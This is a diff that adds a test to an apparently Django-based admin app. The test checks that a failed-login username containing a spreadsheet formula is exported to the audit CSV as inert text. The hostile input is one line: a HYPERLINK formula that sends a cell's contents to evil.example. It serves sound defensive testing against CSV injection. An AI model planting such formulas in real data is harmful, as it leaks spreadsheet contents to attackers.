@@ -316,3 +316,11 @@ def test_every_action_the_code_records_has_a_chinese_label():
     recorded = {code for text in sources for code in re.findall(r'record\(\s*"([a-z_.]+)"', text)}
     recorded |= {f"workflow.{action}" for action in TRANSITIONS}
     assert recorded - set(ACTION_LABELS) == set()
+
+
+def test_a_formula_typed_as_a_failed_login_username_reaches_the_csv_as_text(client):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    client.post("/admin/login/", {"username": hostile, "password": "wrong"})
+    client.force_login(make_staff(AUDITOR))
+    rows = exported_rows(client.get("/admin/accounts/auditevent/export/?action=login_failed"))
+    assert [row[1] for row in rows[1:]] == ["'" + hostile]
